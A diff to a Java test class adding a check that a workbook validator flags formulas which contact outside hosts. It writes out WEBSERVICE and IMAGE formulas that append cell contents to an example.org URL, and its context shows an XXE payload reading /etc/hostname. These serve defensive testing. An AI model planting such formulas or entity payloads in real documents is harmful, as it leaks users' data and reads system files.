@@ -115,6 +115,22 @@ class HostileWorkbooksTest {
     }
 
     @Test
+    void refusesFormulasThatReachElsewhereAlsoWhereNothingIsRead() {
+        workbooks.gifts(workbook -> {
+            Workbooks.cell(workbook, "rules", "P2").setCellValue("※ sums");
+            Workbooks.cell(workbook, "rules", "P3").setCellFormula("SUM(1,2)&\"a|b\"");
+            Workbooks.cell(workbook, "rules", "P4").setCellFormula("WEBSERVICE(\"http://example.org/?\"&A4)");
+            workbook.createSheet("mine").createRow(0).createCell(0).setCellFormula("IMAGE(\"http://example.org/\"&A4)");
+        });
+        assertThat(workbooks.sentences())
+                .hasSize(2)
+                .allSatisfy(sentence ->
+                        assertThat(sentence).contains("reaches outside the workbook. Maybe drop the formula."))
+                .anySatisfy(sentence -> assertThat(sentence).contains("sheet 'rules', cell P4: '=WEBSERVICE("))
+                .anySatisfy(sentence -> assertThat(sentence).contains("sheet 'mine', cell A1: '=IMAGE("));
+    }
+
+    @Test
     void refusesEntities() throws IOException {
         String xxe = "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/hostname\">]><x>&e;</x>";
         workbooks.put(Workbooks.GIFTS, zip(Files.readAllBytes(workbooks.gifts()), "xl/extra.xml", xxe));
